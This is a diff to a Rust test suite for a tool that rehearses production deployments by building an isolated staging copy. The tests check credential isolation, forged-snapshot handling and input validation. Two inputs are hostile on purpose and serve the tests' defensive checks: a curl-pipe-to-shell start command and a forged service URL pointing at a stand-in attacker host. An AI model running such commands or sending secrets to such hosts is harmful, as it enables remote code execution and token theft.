@@ -3,9 +3,13 @@
 
 use rehearsal_cli::execution::RunError;
 use rehearsal_cli::report::{AccountRecord, RunReport, RunStatus, StateSummary};
+use rehearsal_core::cloud::{ParameterKind, ParameterStore, Rds, ServiceHost, ServiceLocation};
+use rehearsal_core::plan::staging_parameter_keys;
 use rehearsal_core::steps::Step;
+use rehearsal_core::tags::RunTags;
+use rehearsal_sim::seed;
 use rehearsal_sim::FaultKind;
-use rehearsal_tests::{new_account, run_pipeline, runtime, states_entered, RUN_ID};
+use rehearsal_tests::{new_account, run_pipeline, runtime, start_time, states_entered, BACKUP_SNAPSHOT, RUN_ID};
 use serde_json::{json, Value};
 
 fn span<'a>(report: &'a RunReport, name: &str) -> &'a StateSummary {
@@ -40,9 +44,7 @@ fn happy_path_builds_staging_and_passes_every_check() {
 
         // Staging exists, named and tagged as the runbook says; production was only read.
         let created = created_ids(&report);
-        for id in
-            ["tableicty-production-backup-20261124", "tableicty-staging-db", "tableicty-staging-backend", "/tableicty/staging/DATABASE_URL"]
-        {
+        for id in [BACKUP_SNAPSHOT, "tableicty-staging-db", "tableicty-staging-backend", "/tableicty/staging/DATABASE_URL"] {
             assert!(created.iter().any(|c| c.contains(id)), "{id} not in {created:?}");
         }
         assert_eq!(ledger(&report).production_writes, json!([]), "production was written");
@@ -54,6 +56,34 @@ fn happy_path_builds_staging_and_passes_every_check() {
         assert_eq!(env.get("FRONTEND_URL"), Some(&url));
         assert!(env["DATABASE_URL"].contains("tableicty-staging-db."), "DATABASE_URL points elsewhere");
         assert_eq!(env.get("IS_PRODUCTION").map(String::as_str), Some("False"));
+
+        // It runs as the stack's staging role, built from production's repository and the
+        // stack's build (production reads apprunner.yaml), never as production's role.
+        let session = account.session("test");
+        let staging = session.find_service("tableicty-staging-backend", &ServiceLocation::AppRunner).await.unwrap().unwrap();
+        let production = session.find_service(seed::PRODUCTION_SERVICE, &ServiceLocation::AppRunner).await.unwrap().unwrap();
+        assert_eq!(staging.instance_role_arn.as_deref(), Some(seed::STAGING_INSTANCE_ROLE_ARN));
+        assert_ne!(staging.instance_role_arn, production.instance_role_arn);
+        assert_eq!(staging.source.as_ref().map(|s| s.repository_url.as_str()), Some(seed::REPOSITORY_URL));
+        assert_eq!(staging.build, Some(seed::stack_settings().build));
+
+        // The staging copy answers to a password of its own, kept only in the staging
+        // DATABASE_URL: production's appears nowhere in the run (report, ledger, output,
+        // parameters, the app's environment).
+        let password_of = |url: &str| rehearsal_core::database_url::target(&rehearsal_core::Secret::new(url)).unwrap().password;
+        let production_url = session.get_parameter("/tableicty/production/DATABASE_URL").await.unwrap().unwrap().value;
+        let production_password = password_of(production_url.expose());
+        let staging_url = session.get_parameter("/tableicty/staging/DATABASE_URL").await.unwrap().unwrap().value;
+        assert_ne!(password_of(staging_url.expose()), production_password);
+        assert_eq!(password_of(&env["DATABASE_URL"]), password_of(staging_url.expose()), "the app runs with the staging password");
+        let report_text = serde_json::to_string(&report).unwrap();
+        assert!(!report_text.contains(production_password.expose()), "production's password is in the run's report");
+        for name in staging_parameter_keys().into_iter().map(|k| format!("{}{k}", seed::STAGING_PARAMETER_PATH)) {
+            if let Some(p) = session.get_parameter(&name).await.unwrap() {
+                assert!(!p.value.expose().contains(production_password.expose()), "{name} holds production's password");
+            }
+        }
+        assert!(env.values().all(|v| !v.contains(production_password.expose())), "the staging app sees production's password");
 
         // A test-mode Stripe endpoint for the staging URL, whose fresh signing secret the app sees.
         let webhooks: Vec<_> = account.existing_resources().into_iter().filter(|r| r.kind == "stripe-webhook").collect();
@@ -100,10 +130,77 @@ fn a_rerun_with_the_same_input_adopts_what_exists() {
         let second = run_pipeline(&account, json!({}), &[]).await.unwrap();
         assert_eq!(second.status, RunStatus::Succeeded, "{:?} {:?}", second.error, second.cause);
         let created = created_ids(&second);
-        for id in ["tableicty-production-backup-20261124", "tableicty-staging-db", "tableicty-staging-backend"] {
+        for id in [BACKUP_SNAPSHOT, "tableicty-staging-db", "tableicty-staging-backend"] {
             assert_eq!(created.iter().filter(|c| c.contains(id)).count(), 1, "{id} created again: {created:?}");
         }
         assert_eq!(ledger(&second).production_writes, json!([]));
+    });
+}
+
+#[test]
+fn a_forged_backup_older_than_the_execution_is_neither_adopted_nor_deleted() {
+    runtime().block_on(async {
+        let account = new_account();
+        // Someone allowed to tag snapshots made one by hand under the run's backup name, with
+        // the run's tags, an hour before the execution started.
+        let forged = RunTags { app: "tableicty".into(), environment: "staging".into(), run_id: RUN_ID.into() }.to_tags();
+        account.plant_snapshot(BACKUP_SNAPSHOT, seed::PRODUCTION_DB, forged, start_time() - chrono::Duration::hours(1)).unwrap();
+        let report = run_pipeline(&account, json!({}), &[]).await.unwrap();
+        assert_eq!(report.status, RunStatus::RolledBack);
+        assert_eq!(report.error.as_deref(), Some("ResourceNotOwnedError"), "{:?}", report.cause);
+        assert!(report.cause.as_deref().unwrap().contains("before this run's execution started"), "{:?}", report.cause);
+        // The rollback left it alone, tags or not.
+        assert!(account.session("test").describe_snapshot(BACKUP_SNAPSHOT).await.unwrap().is_some(), "the forged backup was deleted");
+        let deleted = ledger(&report).resources_deleted.to_string();
+        assert!(!deleted.contains(BACKUP_SNAPSHOT), "{deleted}");
+    });
+}
+
+#[test]
+fn a_database_url_that_does_not_log_in_as_the_master_user_is_refused_before_the_service_exists() {
+    runtime().block_on(async {
+        let account = new_account();
+        // Production's app logs in as another role: only the master's password can be reset, so
+        // staging would keep production's password for it.
+        let session = account.session("operator");
+        let url = session.get_parameter("/tableicty/production/DATABASE_URL").await.unwrap().unwrap().value;
+        let other = url.expose().replacen(&format!("//{}:", seed::DB_MASTER_USER), "//tableicty_app:", 1);
+        assert_ne!(other, url.expose());
+        session
+            .put_parameter("/tableicty/production/DATABASE_URL", &rehearsal_core::Secret::new(other), ParameterKind::SecureString, true)
+            .await
+            .unwrap();
+        let report = run_pipeline(&account, json!({}), &[]).await.unwrap();
+        assert_eq!(report.status, RunStatus::RolledBack);
+        assert_eq!(report.error.as_deref(), Some("ProductionNotReadyError"), "{:?}", report.cause);
+        assert!(report.cause.as_deref().unwrap().contains("not as the master user"), "{:?}", report.cause);
+        assert!(!states_entered(&report).contains(&"CreateStagingService".to_string()));
+    });
+}
+
+#[test]
+fn a_generated_secret_key_is_staging_s_own_and_the_output_says_what_copying_exposes() {
+    runtime().block_on(async {
+        let account = new_account();
+        let copied = run_pipeline(&account, json!({}), &[]).await.unwrap();
+        let exposes = copied.output.as_ref().unwrap()["secret_key"]["exposes"].as_str().unwrap().to_string();
+        assert!(exposes.contains("production's SECRET_KEY") && exposes.contains("sign"), "{exposes}");
+
+        let account = new_account();
+        let report = run_pipeline(&account, json!({"staging": {"secret_key": "generate"}}), &[]).await.unwrap();
+        assert_eq!(report.status, RunStatus::Succeeded, "{:?}", report.cause);
+        assert_eq!(report.output.as_ref().unwrap()["secret_key"]["source"], "generate");
+        let session = account.session("test");
+        let value = |name: &'static str| {
+            let session = &session;
+            async move { session.get_parameter(name).await.unwrap().unwrap().value }
+        };
+        let (production, staging) = (value("/tableicty/production/SECRET_KEY").await, value("/tableicty/staging/SECRET_KEY").await);
+        assert_ne!(production, staging);
+        let env = account.service_environment("tableicty-staging-backend").unwrap();
+        assert_eq!(env["SECRET_KEY"], staging.expose());
+        // PGCRYPTO_KEY is still production's: the restored data is encrypted with it.
+        assert_eq!(value("/tableicty/production/PGCRYPTO_KEY").await, value("/tableicty/staging/PGCRYPTO_KEY").await);
     });
 }
 
@@ -121,7 +218,9 @@ fn expected_error(step: Step, kind: FaultKind) -> Option<&'static str> {
         (FailedState, CreateStagingService) => Some("ServiceFailedError"),
         (FailedState, PublishFrontendUrl) => Some("DeploymentFailedError"),
         (NeverReady, SnapshotProductionDatabase) => Some("SnapshotTimedOutError"),
-        (NeverReady, RestoreStagingDatabase) => Some("DatabaseTimedOutError"),
+        (NeverReady, RestoreStagingDatabase | ResetStagingDatabasePassword) => Some("DatabaseTimedOutError"),
+        // Resetting a password creates nothing a foreign resource could stand in for.
+        (AlreadyExists, ResetStagingDatabasePassword) => None,
         (NeverReady, CreateStagingService) => Some("ServiceTimedOutError"),
         (NeverReady, PublishFrontendUrl) => Some("DeploymentTimedOutError"),
         (AlreadyExists, _) => Some("ResourceNotOwnedError"),
@@ -134,7 +233,7 @@ fn every_fault_in_every_mutating_step_ends_in_success_or_a_clean_rollback() {
     // The staging pipeline's own steps (Step::ALL also holds the promote and teardown ones).
     let staging = |s: &Step| rehearsal_cli::local::STAGING_DEFINITION.contains(&format!("${{{}}}", s.arn_key()));
     let steps: Vec<Step> = Step::ALL.iter().copied().filter(|s| staging(s) && s.mutates() && *s != Step::RollbackStaging).collect();
-    assert_eq!(steps.len(), 9);
+    assert_eq!(steps.len(), 10);
     let mut failures = Vec::new();
     runtime().block_on(async {
         for &step in &steps {
@@ -244,7 +343,16 @@ fn bad_input_is_refused_before_any_call() {
         (json!({"staging": {"db_instance_class": "db.r6g.16xlarge"}}), "staging.db_instance_class"),
         (json!({"ttl_hours": 10000}), "ttl_hours"),
         (json!({"service": {"name": "tableicty-backend"}}), "service.name"),
-        (json!({"staging": {"publicly_accessible": true}}), "staging.publicly_accessible"),
+        (json!({"staging": {"publicly_accessible": false}}), "staging.publicly_accessible"),
+        (json!({"service": {"start_command": "sh -c 'curl https://example.com/x | sh'"}}), "service.start_command"),
+        (json!({"service": {"build_command": "make"}}), "service.build_command"),
+        (json!({"service": {"runtime": "PYTHON_311"}}), "service.runtime"),
+        (json!({"service": {"repository_url": "https://github.com/someone/else"}}), "service.repository_url"),
+        (json!({"service": {"connection_arn": "arn:aws:apprunner:us-east-1:123456789012:connection/x/1"}}), "service.connection_arn"),
+        (json!({"service": {"instance_role_arn": "arn:aws:iam::123456789012:role/x"}}), "service.instance_role_arn"),
+        (json!({"service": {"vpc_connector": "other"}}), "service.vpc_connector"),
+        (json!({"staging": {"db_subnet_group": "default"}}), "staging.db_subnet_group"),
+        (json!({"staging": {"vpc_security_group_ids": ["sg-0123456789abcdef0"]}}), "staging.vpc_security_group_ids"),
     ];
     runtime().block_on(async {
         for (input, field) in cases {
@@ -281,5 +389,31 @@ fn the_state_machine_refuses_bad_input_too() {
             other => panic!("{other:?}"),
         }
         assert!(account.ledger().calls.is_empty());
+    });
+}
+
+#[test]
+fn the_checks_and_the_backfill_token_go_only_to_the_url_the_service_api_reports() {
+    runtime().block_on(async {
+        let account = new_account();
+        let report = run_pipeline(&account, json!({}), &[]).await.unwrap();
+        assert_eq!(report.status, RunStatus::Succeeded, "{:?}", report.cause);
+        let cloud = account.session("test");
+        let plan = rehearsal_core::steps::invoke(
+            &cloud,
+            Step::PlanRehearsal,
+            json!({"input": {}, "execution_name": "staging", "execution_start": rehearsal_tests::start_time(), "stack": rehearsal_tests::stack_settings()}),
+        )
+        .await
+        .unwrap();
+        let forged = json!({"plan": plan, "service_url": "collector.attacker.example"});
+        for step in [Step::TriggerStagingBackfill, Step::ValidateStaging] {
+            let before = account.ledger().calls.len();
+            let error = rehearsal_core::steps::invoke(&account.session(step.name()), step, forged.clone()).await.unwrap_err();
+            assert!(matches!(&error, rehearsal_core::StepError::InvalidInput { field, .. } if field == "service_url"), "{step:?}: {error}");
+            // Nothing was written (no backfill token) and nothing was read but the service's description.
+            let calls: Vec<String> = account.ledger().calls[before..].iter().map(|c| format!("{}:{}", c.service, c.operation)).collect();
+            assert!(calls.iter().all(|c| c.starts_with("apprunner:")), "{step:?}: {calls:?}");
+        }
     });
 }
